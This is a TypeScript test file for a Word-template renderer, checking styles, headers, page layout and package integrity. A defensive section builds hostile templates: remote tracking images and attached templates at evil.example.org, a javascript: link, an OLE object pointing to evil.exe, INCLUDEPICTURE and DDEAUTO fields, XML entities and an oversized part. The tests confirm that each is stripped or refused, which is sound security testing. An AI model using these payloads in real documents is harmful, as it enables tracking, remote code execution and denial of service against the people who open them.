/** A document that is laid over an organisation's own template. */
import { PageOrientation, Header, Paragraph } from 'docx';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { BrandFault } from '../../../../src/formats/brand.ts';
import { docx } from '../../../../src/formats/docx.ts';
import { md } from '../../../../src/formats/md.ts';
import { planFiles, renderingOfFile } from '../../rendering-of.ts';
import { markdownWords } from '../markdown-words.ts';
import { hasOffice, pagesOf } from '../office.ts';
import { allOf, partsOf, styleOf, textOf, wordsOf, type Element } from '../parts.ts';
import { brandFile, logo, withParts } from './brand-file.ts';

const word = await docx();
const rendering = await renderingOfFile(planFiles['every-field']);
const brand = await brandFile();
const small = await renderingOfFile('examples/library/plan.yaml');
/** A plan with hardly anything to draw, over a template. */
const overBrand = (file: Uint8Array) => word.render({ ...small, brand: { word: file } });
const bytes = await word.render({ ...rendering, brand: { word: brand } });
const parts = partsOf(bytes);
const body = parts.get('word/document.xml')!;
const styles = allOf(parts.get('word/styles.xml')!, 'w:style');

const withValue = (name: string, value: string) => `<${name} w:val="${value}"/>`;
const nameOf = (style: Element) => allOf(style, 'w:name')[0]!.attributes['w:val'];
const valuesOf = (element: Element, name: string, attribute = 'w:val') =>
  allOf(element, name).map(({ attributes }) => attributes[attribute]);

test('it says what the Markdown says, and nothing that the template said', async () => {
  expect(wordsOf(parts)).toEqual(markdownWords((await md()).render(rendering)));
  expect(textOf(body)).not.toContain('Text of the template');
});

test('it is the same bytes each time', async () => {
  const again = await word.render({ ...rendering, brand: { word: brand } });
  expect(Buffer.compare(Buffer.from(again), Buffer.from(bytes))).toBe(0);
});

describe('styles', () => {
  test('are those of the template, with those that it lacks', () => {
    const heading = styles.filter(({ attributes }) => attributes['w:styleId'] === 'Heading1');
    expect(heading).toHaveLength(1);
    expect(valuesOf(heading[0]!, 'w:color')).toEqual(['7A1FA2']);
    expect(styles.map(nameOf)).toEqual(expect.arrayContaining(['Below a table', 'toc 1', 'Imprint']));
  });

  test('every one that is used is there, once, by its id and its name', () => {
    const ids = styles.map(({ attributes }) => attributes['w:styleId']);
    expect(new Set(ids).size).toBe(ids.length);
    const names = styles.map((style) => `${style.attributes['w:type']} ${nameOf(style)?.toLowerCase()}`);
    expect(new Set(names).size).toBe(names.length);
    const used = ['w:pStyle', 'w:rStyle', 'w:tblStyle'].flatMap((name) =>
      ['word/document.xml', 'word/header-default.xml', 'word/footer-default.xml'].flatMap((part) =>
        valuesOf(parts.get(part)!, name),
      ),
    );
    expect(used.length).toBeGreaterThan(100);
    expect([...new Set(used)].filter((id) => !ids.includes(id))).toEqual([]);
  });

  test('an id that the template has for something else is not ours', () => {
    const cells = allOf(body, 'w:tc').flatMap((cell) => allOf(cell, 'w:p').map(styleOf));
    expect(new Set(cells)).toEqual(new Set(['TableTextPlan']));
    const own = styles.find(({ attributes }) => attributes['w:styleId'] === 'TableTextPlan')!;
    expect(nameOf(own)).toBe('Table text');
  });

  test('those of another language are known by their names', async () => {
    const german = withParts(brand, {
      'word/styles.xml': (was) =>
        was.replaceAll('"Heading1"', '"berschrift1"').replaceAll('"Heading 1"', '"heading 1"'),
    });
    const made = partsOf(await overBrand(german)).get('word/document.xml')!;
    const used = new Set(allOf(made, 'w:p').map(styleOf));
    expect(used).toContain('berschrift1');
    expect(used).not.toContain('Heading1');
  });

  test('an id with signs that XML writes in another way is still one', async () => {
    const odd = withParts(brand, {
      'word/styles.xml': (was) => was.replaceAll('"Heading1"', () => '"H&amp;&lt;&quot;$&amp;1"'),
    });
    const made = partsOf(await overBrand(odd)).get('word/document.xml')!;
    expect(new Set(allOf(made, 'w:p').map(styleOf))).toContain('H&<"$&1');
  });

  test('no numbering of the template is mixed with that of the lists', () => {
    expect(styles.flatMap((style) => allOf(style, 'w:numPr'))).toEqual([]);
    const numbers = valuesOf(parts.get('word/numbering.xml')!, 'w:num', 'w:numId');
    expect(valuesOf(body, 'w:numId').filter((id) => !numbers.includes(id))).toEqual([]);
  });

  test('a style that the template has for tables is that of the tables', async () => {
    const withTables = withParts(brand, {
      'word/styles.xml': (was) =>
        was.replace(
          '</w:styles>',
          `<w:style w:type="table" w:customStyle="1" w:styleId="TrustTable">${withValue('w:name', 'Trust table')}</w:style></w:styles>`,
        ),
    });
    const tables = allOf(partsOf(await overBrand(withTables)).get('word/document.xml')!, 'w:tbl');
    expect(new Set(tables.flatMap((table) => valuesOf(table, 'w:tblStyle')))).toEqual(
      new Set(['TrustTable']),
    );
    expect(tables.flatMap((table) => allOf(table, 'w:tblBorders'))).toEqual([]);
  });

  test('its language is said, as accessible documents need it', () => {
    expect(valuesOf(parts.get('word/styles.xml')!, 'w:lang')).not.toEqual([]);
  });
});

describe('headers and footers', () => {
  test('are those of the template, with their picture', () => {
    expect(textOf(parts.get('word/header-default.xml')!)).toContain('Valley Trust');
    expect(textOf(parts.get('word/header-first.xml')!)).toContain('First page of the Trust');
    expect(textOf(parts.get('word/footer-default.xml')!)).toContain('Sheet');
    const [embedded] = valuesOf(parts.get('word/header-default.xml')!, 'a:blip', 'r:embed');
    const target = targetOf('word/_rels/header-default.xml.rels', embedded!);
    expect(Buffer.from(unzipSync(bytes)[`word/${target}`]!)).toEqual(Buffer.from(logo));
    const [first] = allOf(body, 'w:sectPr');
    expect(valuesOf(first!, 'w:headerReference', 'w:type')).toEqual(['default', 'first']);
    expect(valuesOf(first!, 'w:footerReference', 'w:type')).toEqual(['default']);
    expect(allOf(first!, 'w:titlePg')).toHaveLength(1);
  });

  test('a template that has none gets ours, with room for them', async () => {
    const margin = { left: 1440, right: 1440, top: 500, bottom: 500, header: 0, footer: 0 };
    const none = await brandFile({ headers: {}, footers: {}, properties: { page: { margin } } });
    const plain = await overBrand(none);
    const [margins] = allOf(partsOf(plain).get('word/document.xml')!, 'w:pgMar');
    expect(Number(margins!.attributes['w:header'])).toBeGreaterThan(400);
    expect(Number(margins!.attributes['w:top'])).toBeGreaterThan(
      Number(margins!.attributes['w:header']) + 300,
    );
    const made = partsOf(plain);
    expect(textOf(made.get('word/header-default.xml')!)).toContain(small.plan.title);
    expect(textOf(made.get('word/footer-default.xml')!)).toMatch(/^Page .* of /);
  });

  test('pages with even numbers keep their own', async () => {
    const made = partsOf(
      await overBrand(
        withParts(
          await brandFile({ headers: { default: new Header({ children: [new Paragraph('odd')] }) } }),
          {
            'word/settings.xml': (was) =>
              was.replace(withValue('w:evenAndOddHeaders', 'false'), '<w:evenAndOddHeaders/>'),
          },
        ),
      ),
    );
    expect(allOf(made.get('word/settings.xml')!, 'w:evenAndOddHeaders')).toHaveLength(1);
  });
});

test('the page is that of the template, and what stands on it fits', () => {
  const sizes = allOf(body, 'w:pgSz').map(({ attributes }) => [attributes['w:w'], attributes['w:h']]);
  expect(new Set(sizes.map(String))).toEqual(new Set(['12240,15840']));
  expect(new Set(valuesOf(body, 'w:pgMar', 'w:left'))).toEqual(new Set(['1440']));
  const room = 12240 - 2 * 1440;
  const tables = valuesOf(body, 'w:tblW', 'w:w').map(Number);
  expect(Math.max(...tables)).toBe(room);
  const pictures = valuesOf(body, 'wp:extent', 'cx').map((width) => Number(width) / 635);
  expect(Math.max(...pictures)).toBeLessThanOrEqual(room);
  expect(Math.max(...pictures)).toBeGreaterThan(room * 0.9);
});

test('a template that lies gives pages that lie', async () => {
  const size = { width: 11906, height: 16838, orientation: PageOrientation.LANDSCAPE };
  const lying = partsOf(await overBrand(await brandFile({ properties: { page: { size } } })));
  expect(new Set(valuesOf(lying.get('word/document.xml')!, 'w:pgSz', 'w:orient'))).toEqual(
    new Set(['landscape']),
  );
});

test('a page without room for text is not taken over', async () => {
  const page = { size: { width: 12240, height: 15840 }, margin: { left: 6000, right: 6000 } };
  const made = partsOf(await overBrand(await brandFile({ properties: { page } })));
  expect(new Set(valuesOf(made.get('word/document.xml')!, 'w:pgSz', 'w:w'))).toEqual(new Set(['11906']));
});

test('everything that a part refers to is there, and is said once what it is', () => {
  const files = unzipSync(bytes);
  for (const [name, list] of parts) {
    if (!name.endsWith('.rels')) continue;
    const part = name.replace('_rels/', '').replace(/\.rels$/, '');
    const listed = allOf(list, 'Relationship').map(({ attributes }) => attributes);
    const ids = listed.map(({ Id }) => Id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const { Target, TargetMode } of listed)
      if (TargetMode !== 'External')
        expect(files, name).toHaveProperty([`${part.replace(/[^/]*$/, '')}${Target}`]);
    const used = part === '' ? [] : referencesIn(parts.get(part)!);
    expect(used.filter((id) => !ids.includes(id))).toEqual([]);
  }
  const types = parts.get('[Content_Types].xml')!;
  const overridden = valuesOf(types, 'Override', 'PartName');
  const endings = valuesOf(types, 'Default', 'Extension');
  expect(new Set([...overridden, ...endings]).size).toBe(overridden.length + endings.length);
  for (const name of Object.keys(files).filter((file) => file !== '[Content_Types].xml'))
    expect(overridden.includes(`/${name}`) || endings.includes(/[^.]*$/.exec(name)![0]), name).toBe(true);
});

function referencesIn(element: Element): string[] {
  const own = Object.entries(element.attributes).flatMap(([name, value]) =>
    name.startsWith('r:') ? [value] : [],
  );
  return [
    ...own,
    ...element.children.flatMap((child) => (typeof child === 'string' ? [] : referencesIn(child))),
  ];
}

function targetOf(list: string, id: string): string {
  return allOf(parts.get(list)!, 'Relationship').find(({ attributes }) => attributes['Id'] === id)!
    .attributes['Target']!;
}

describe('what would reach out of the document is left behind', () => {
  const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
  const external = (id: string, kind: string, target: string) =>
    `<Relationship Id="${id}" Type="${kinds}${kind}" Target="${target}" TargetMode="External"/>`;
  const hostile = withParts(brand, {
    'word/_rels/header1.xml.rels': (was) =>
      was.replace(
        '</Relationships>',
        external('bad1', 'image', 'http://evil.example.org/track.png') +
          external('bad2', 'hyperlink', 'javascript:alert(1)') +
          external('bad3', 'oleObject', 'file:///c:/evil.exe') +
          `<Relationship Id="bad4" Type="${kinds}oleObject" Target="embeddings/evil.bin"/></Relationships>`,
      ),
    'word/header1.xml': (was) =>
      was.replace(
        '</w:hdr>',
        `<w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:blip r:link="bad1"/></a:graphic></w:drawing></w:r>` +
          `<w:hyperlink r:id="bad2"><w:r><w:t>kept words</w:t></w:r></w:hyperlink>` +
          `<w:r><w:object><o:OLEObject r:id="bad3"/></w:object></w:r><w:r><w:object><o:OLEObject r:id="bad4"/></w:object></w:r>` +
          `<w:r><w:pict><v:shape><v:imagedata src="http://evil.example.org/x.png"/></v:shape></w:pict></w:r></w:p></w:hdr>`,
      ),
    'word/_rels/settings.xml.rels': () =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${external('rId1', 'attachedTemplate', 'http://evil.example.org/t.dotm')}</Relationships>`,
    'word/vbaProject.bin': () => 'macros',
  });

  test('but the words of a link', async () => {
    const made = await overBrand(hostile);
    const text = Object.entries(unzipSync(made))
      .filter(([name]) => !/\.(?:png|svg)$/.test(name))
      .map(([name, part]) => name + strFromU8(part))
      .join('\n');
    expect(text).toContain('kept words');
    expect(text).not.toMatch(/evil|javascript|attachedTemplate|OLEObject|vbaProject|macros/);
    const lists = [...partsOf(made)].filter(([name]) => name.endsWith('.rels'));
    const out = lists
      .flatMap(([, list]) => allOf(list, 'Relationship'))
      .filter(({ attributes }) => attributes['TargetMode'] === 'External');
    expect(out.length).toBeGreaterThan(0);
    for (const { attributes } of out) expect(attributes['Type']).toMatch(/\/hyperlink$/);
  });
});

describe('what is no template is refused, in words', () => {
  const field = (words: string) =>
    withParts(brand, {
      'word/header1.xml': (was) =>
        was.replace('</w:hdr>', `<w:p><w:fldSimple w:instr="${words}"/></w:p></w:hdr>`),
    });
  const split = withParts(brand, {
    'word/header1.xml': (was) =>
      was.replace(
        '</w:hdr>',
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example.org/x.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>',
      ),
  });
  const typed = (type: string) =>
    withParts(brand, {
      '[Content_Types].xml': (was) => was.replace('wordprocessingml.document.main', type),
    });
  test.each([
    ['text', new TextEncoder().encode('Dear all'), /^is not a Word document/],
    ['nothing', new Uint8Array(), /^is not a Word document/],
    ['half a file', brand.slice(0, brand.length / 2), /^is not a Word document/],
    ['a workbook', typed('spreadsheetml.sheet.main'), /^is not a Word document/],
    ['a template with macros', typed('ms-word.template.macroEnabledTemplate.main'), /^holds macros/],
    [
      'another dialect',
      withParts(brand, {
        'word/document.xml': (was) =>
          was.replace(
            'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
            'http://purl.oclc.org/ooxml/wordprocessingml/main',
          ),
      }),
      /Strict Open XML/,
    ],
    [
      'broken XML',
      withParts(brand, { 'word/styles.xml': (was) => was.slice(0, -9) }),
      /^is not a Word document/,
    ],
    [
      'entities',
      withParts(brand, {
        'word/styles.xml': (was) => was.replace('<w:styles', '<!DOCTYPE x [<!ENTITY a "b">]><w:styles'),
      }),
      /^is not a Word document/,
    ],
    [
      'elements without end',
      withParts(brand, {
        'word/header1.xml': (was) =>
          was.replace('</w:hdr>', `${'<a>'.repeat(9e4)}${'</a>'.repeat(9e4)}</w:hdr>`),
      }),
      /^is not a Word document/,
    ],
    ['a bomb', withParts(brand, { 'word/styles.xml': () => new Uint8Array(9_000_000) }), /more than 8 MB/],
    ['a field that loads', field('INCLUDEPICTURE http://evil.example.org/x.png'), /`INCLUDEPICTURE`/],
    ['a field in pieces', split, /`INCLUDEPICTURE`/],
    ['a field that runs', field(' ddeauto c:\\\\x'), /`DDEAUTO`/],
  ])('%s', async (_, file, message) => {
    const fault = await overBrand(file).catch((error: unknown) => error);
    expect(fault).toBeInstanceOf(BrandFault);
    expect((fault as BrandFault).message).toMatch(message);
  });

  test('a reference is one by its namespace, whatever it is called by', async () => {
    const called = withParts(brand, {
      'word/header1.xml': (was) =>
        was.replace(
          '</w:hdr>',
          `<w:p><w:hyperlink xmlns:q="http://schemas.openxmlformats.org/officeDocument/2006/relationships" q:id="nowhere"><w:r><w:t>Called</w:t></w:r></w:hyperlink></w:p>` +
            `<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:pPr><x:numPr/></x:pPr><x:r><x:t>Other</x:t></x:r></x:p></w:hdr>`,
        ),
    });
    const header = partsOf(await overBrand(called)).get('word/header-default.xml')!;
    expect(textOf(header)).toContain('Called');
    expect(textOf(header)).toContain('Other');
    expect(JSON.stringify(header)).not.toMatch(/nowhere|numPr/);
  });

  test('a field that loads something is found, whatever it is called by', async () => {
    const hidden = withParts(brand, {
      'word/header1.xml': (was) =>
        was.replace(
          '</w:hdr>',
          '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="INCLUDETEXT x"/></x:p></w:hdr>',
        ),
    });
    await expect(overBrand(hidden)).rejects.toThrow('has the field `INCLUDETEXT`');
  });

  test('a name of Word’s for what is not Word’s is refused', async () => {
    const mixed = withParts(brand, {
      'word/header1.xml': (was) => was.replace('</w:hdr>', '<w:p><w:r xmlns:w="urn:other"/></w:p></w:hdr>'),
    });
    await expect(overBrand(mixed)).rejects.toThrow(BrandFault);
  });

  test.each([
    ['100000 elements', '<a/>'.repeat(1_900_000)],
    ['400000 attributes', `<a ${Array.from({ length: 600_000 }, (_, index) => `a${index}=""`).join(' ')}/>`],
  ])('a part of more than %s is refused soon', async (much, inner) => {
    const many = withParts(brand, {
      'word/styles.xml': (was) => was.replace('</w:styles>', `${inner}</w:styles>`),
    });
    await expect(overBrand(many)).rejects.toThrow(
      `has a part of more than ${much}, which is too much for a template`,
    );
  });

  test('other fields are fine', async () => {
    await expect(overBrand(field('STYLEREF &quot;Hidden link&quot;'))).resolves.toBeInstanceOf(Uint8Array);
  });
});

test.skipIf(!hasOffice)(
  'LibreOffice shows it with the header of the template on every page but the first',
  () => {
    const pages = pagesOf(bytes).map((page) => page.replace(/\s+/g, ' ').trim());
    expect(pages.length).toBeGreaterThan(8);
    expect(pages[0]).toMatch(/^First page of the Trust/);
    pages.slice(1).forEach((page, index) => {
      expect(page).toMatch(/^Valley Trust/);
      expect(page).toContain(`Sheet ${index + 2}`);
    });
  },
);
